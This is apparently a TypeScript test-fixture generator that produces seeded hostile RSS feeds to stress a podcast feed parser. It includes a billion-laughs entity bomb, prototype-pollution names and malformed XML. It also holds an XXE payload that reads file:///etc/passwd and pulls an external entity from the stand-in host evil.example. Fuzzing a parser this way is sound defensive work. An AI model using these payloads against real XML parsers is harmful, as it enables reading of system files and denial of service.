/** Generates hostile feeds of many kinds and sizes, the same for the same seed. */
import { random } from '../../bench/generate-feed.mjs';

const ITEM =
  '<item><title>E</title><guid>g</guid><enclosure url="https://m.example/1.mp3"/></item>';

const rss = (inside: string): string =>
  `<?xml version="1.0"?><rss version="2.0"><channel><title>T</title>${inside}${ITEM}</channel></rss>`;

const TAGS = [
  'title',
  'description',
  'item',
  'channel',
  'itunes:category',
  'podcast:liveItem',
  'x',
  'psc:chapters',
];
const WORDS = ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'valueOf'];

type Make = (size: number, pick: <Item>(list: readonly Item[]) => Item) => string;

const kinds: Record<string, Make> = {
  nesting: (size, pick) => rss(`<${pick(TAGS)}>`.repeat(size)),
  'nesting of pairs': (size) => rss('<a>'.repeat(size) + '</a>'.repeat(size)),
  'end tags without a start': (size, pick) => rss(`</${pick(TAGS)}>`.repeat(size)),
  'end tags of names never opened': (size) => rss(`<b>${'</q>'.repeat(size)}`),
  'unclosed items': (size) => rss('<item><title>x'.repeat(Math.min(size, 15_000))),
  'unclosed notes': (size) => rss(`<description>${'<p>x<br>'.repeat(size)}`),
  'unclosed CDATA': (size) => rss(`<description><![CDATA[${']]'.repeat(size)}`),
  'unclosed comment': (size) => rss(`<!--${'--'.repeat(size)}`),
  'unclosed declaration': (size) => `<!DOCTYPE rss [${'<!ENTITY a "'.repeat(size)}`,
  'unclosed instruction': (size) => rss(`<?php ${'?'.repeat(size)}`),
  'unclosed quotes': (size) => rss(`<enclosure url="${'x '.repeat(size)}`),
  'entity bomb': (size) => {
    const layers = Array.from(
      { length: 20 },
      (_, n) => `<!ENTITY e${n + 1} "${`&e${n};`.repeat(10)}">`,
    );
    return `<!DOCTYPE rss [<!ENTITY e0 "lol">${layers.join('')}]>${rss(`<description>${'&e20;'.repeat(size)}</description>`)}`;
  },
  'external entities': (size) =>
    `<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY % y SYSTEM "https://evil.example/">%y;]>${rss(`<description>${'&x;'.repeat(size)}</description>`)}`,
  ampersands: (size) => rss(`<description>${'&'.repeat(size)}&#${'9'.repeat(size)};</description>`),
  'angle brackets': (size) => rss(`<description><![CDATA[${'<'.repeat(size)}]]></description>`),
  'raw angle brackets': (size) => rss(`<description>${'<'.repeat(size)}</description>`),
  'half tags in notes': (size) =>
    rss(`<description><![CDATA[${'<a "'.repeat(size)}]]></description>`),
  'styles in notes': (size) =>
    rss(`<description><![CDATA[${'<style>'.repeat(size)}]]></description>`),
  'blanks in notes': (size) =>
    rss(`<description><![CDATA[<p>${' '.repeat(size)}\n${'\t\n '.repeat(size)}]]></description>`),
  'a huge attribute': (size) => rss(`<enclosure url="${'x'.repeat(size * 8)}"/>`),
  'a huge name': (size) => rss(`<${'x'.repeat(size * 8)}>`),
  'many attributes': (size) =>
    rss(`<enclosure ${Array.from({ length: size }, (_, n) => `a${n}="1"`).join(' ')}/>`),
  'many names': (size) => rss(Array.from({ length: size }, (_, n) => `<x${n}/>`).join('')),
  'many namespaces': (size) => {
    const bind = (n: number) =>
      `<itunes:category xmlns:p${n}="http://www.itunes.com/dtds/podcast-1.0.dtd" text="x">`;
    return rss(Array.from({ length: size }, (_, n) => bind(n)).join(''));
  },
  'names of JavaScript': (size, pick) => {
    const word = pick(WORDS);
    return rss(
      `<${word} ${word}="x" xmlns:${word}="x">x</${word}><${word}:x/><item><guid>${word}</guid><title>${word}</title></item>`.repeat(
        Math.min(size, 2000),
      ),
    );
  },
  'the same GUID': (size) => rss('<item><guid>g</guid></item>'.repeat(Math.min(size, 19_000))),
  'many episodes': (size) => rss('<item/>'.repeat(size * 2)),
  NULs: (size) =>
    rss(`<ti\0tle>${'\0'.repeat(size)}</ti\0tle><description>${'a\0'.repeat(size)}</description>`),
  'odd numbers': (size, pick) => {
    const number = pick(['NaN', 'Infinity', '-1', '1e999', '9'.repeat(size), '0x10', '١٢']);
    return rss(
      `<item><itunes:duration>${number}</itunes:duration><itunes:season>${number}</itunes:season><enclosure url="https://a.example" length="${number}"/></item>`,
    );
  },
  'odd dates': (size, pick) =>
    rss(
      `<pubDate>${pick(['Mon, ', '9'.repeat(size), '2020-01-01T'.repeat(size), ' '.repeat(size) + 'x', '1 '.repeat(size)])}</pubDate>`,
    ),
  'odd people': (size, pick) =>
    rss(`<itunes:author>${pick(['a@', '(', '<', '@', 'a.b@c '])}`.repeat(size)),
  'odd URLs': (size, pick) =>
    rss(
      `<link>${pick(['https://', '//', 'a:', '\\\\', '%', '@', '?', '#', '[']).repeat(size)}</link>`,
    ),
  'own URLs': (size) =>
    rss(
      Array.from(
        { length: Math.min(size, 3000) },
        (_, n) => `<atom:link rel="self" href="https://a.example/${n}"/>`,
      ).join(''),
    ),
  'no XML at all': (size, pick) => pick(['{', '<', '\n', 'x', '<html>', '&']).repeat(size),
};

/** The text as bytes, of which about every hundredth is replaced by a random one. */
function broken(text: string, next: () => number): Uint8Array {
  const bytes = new TextEncoder().encode(text);
  for (let at = 0; at < bytes.length; at += 1 + Math.floor(next() * 200)) {
    bytes[at] = Math.floor(next() * 256);
  }
  return bytes;
}

export interface HostileFeed {
  name: string;
  feed: string | Uint8Array;
}

/** At least 200 hostile feeds of up to a few hundred kilobytes. */
export function* hostileFeeds(seed: number): Generator<HostileFeed> {
  const next = random(seed);
  const pick = <Item>(list: readonly Item[]): Item => list[Math.floor(next() * list.length)]!;
  for (const [kind, make] of Object.entries(kinds)) {
    for (const size of [1 + Math.floor(next() * 30), 300, 3_000, 30_000]) {
      const text = make(size, pick);
      yield { name: `${kind}, ${size}`, feed: text };
      if (size <= 3_000) yield { name: `${kind}, ${size}, broken bytes`, feed: broken(text, next) };
    }
  }
}
